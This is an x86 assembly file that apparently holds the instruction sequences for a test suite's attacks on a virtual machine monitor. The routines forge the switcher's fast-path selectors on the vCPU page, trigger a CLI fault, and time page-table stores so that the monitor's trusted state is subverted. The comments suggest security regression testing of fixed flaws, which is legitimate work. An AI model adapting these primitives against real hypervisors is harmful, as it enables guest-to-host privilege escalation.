; attack_fast_entry.asm - the fast-forged-kcs and fast-forged-kss
; attacks' instruction sequences (attack_fast.c): a forged write to the
; switcher's fast-path selectors followed, with no trap in between, by a
; CLI from the segment the forgery names; and the page-table store the
; fast-ptw attacks repeat (ptw_store, at the end).
;
; Mechanism: the monitor rewrites the vCPU page's fast-path state at every
; exit, so a forgery must reach the CPU's #GP on the CLI without any exit
; in between: no segment load that traps (every selector loaded here
; carries the RPL of the CPL the code runs at, which ring compression lets
; the CPU load natively, and its accessed bit is already set), no
; interrupt (fast-forged-kss runs with IF clear; in fast-forged-kcs an IRQ
; in the three-instruction window would only undo the forgery).  Natively
; (or wherever the guest cannot write the vCPU page) forge is 0 and only
; the CLI runs.

SW_VCPU      equ 0xFFC23000     ; the vCPU page (attack_lib.h SW_VCPU)
SW_FAST_KCS  equ SW_VCPU        ; struct switcher_fast: kcs, then kss, on
SW_FAST_KSS  equ SW_VCPU + 4    ; the vCPU page before the fix
SEL_KCODE    equ 0x08
SEL_KDATA    equ 0x10
SEL_STACK16  equ 0x58           ; AGDT_STACK16 (attack_lib.h)
RPL_MASK     equ 3

section .bss
fast_saved_esp: resd 1

section .text

; void based_cli_run(const u32 *far, u32 forge): far jump to far[0] (the
; offset) in segment far[1]; there CLI, then back to the flat kernel code.
; forge: first write kcs = far[1] with the RPL of the CPL (as trap frames
; show it) and kss = the SS in use.
global based_cli_run, based_cli, based_cli_after
based_cli_run:
	mov ecx, [esp + 4]
	cmp dword [esp + 8], 0
	je .go
	xor eax, eax
	mov ax, cs
	and eax, RPL_MASK
	or eax, [ecx + 4]
	mov [SW_FAST_KCS], eax
	xor eax, eax
	mov ax, ss
	mov [SW_FAST_KSS], eax
.go:
	jmp far [ecx]
based_cli:                      ; CS: the based segment, EIP: based_cli - base
	cli
based_cli_after:
	jmp SEL_KCODE:based_cli_back
based_cli_back:
	ret

; void s16_forged_cli(u32 esp, u32 *out, u32 forge): on SS = SEL_STACK16
; (16-bit, B=0) with ESP = esp, CLI; out[0] = ESP after it.  forge: first
; write kss = SEL_STACK16 with the RPL of the CPL (the flat kernel CS
; already matches kcs).  Nothing addresses memory through ESP.
global s16_forged_cli
s16_forged_cli:
	push ebp
	push ebx
	push esi
	push edi
	mov [fast_saved_esp], esp
	mov ebx, [esp + 20]
	mov edi, [esp + 24]
	xor esi, esi
	mov si, cs
	and esi, RPL_MASK
	or esi, SEL_STACK16             ; loads without a trap at this CPL
	cmp dword [esp + 28], 0
	je .go
	mov [SW_FAST_KSS], esi
.go:
	mov ss, si
	mov esp, ebx
	cli
	mov [edi], esp
	mov ax, SEL_KDATA
	mov ss, ax
	mov esp, [fast_saved_esp]
	pop edi
	pop esi
	pop ebx
	pop ebp
	ret

; void ptw_store(volatile u32 *addr, u32 val, u32 val2, u32 ds): at
; ptw_site, MOV [addr], EAX with EAX = val (and ECX = val2, for when the
; instruction has been rewritten to store ECX), through DS = ds for that
; one store (0: DS as it is), DS back after it.  The fast-ptw attacks
; (attack_fast.c) store to page-table entries here until the monitor
; has armed the switcher for this EIP, then change what it trusts.
global ptw_store, ptw_site
ptw_store:
	push ebx
	mov ebx, ds
	mov edx, [esp + 8]
	mov eax, [esp + 12]
	mov ecx, [esp + 16]
	cmp dword [esp + 20], 0
	je ptw_site
	mov ds, word [esp + 20]
ptw_site:
	mov [edx], eax                  ; 89 02
	mov ds, bx
	pop ebx
	ret
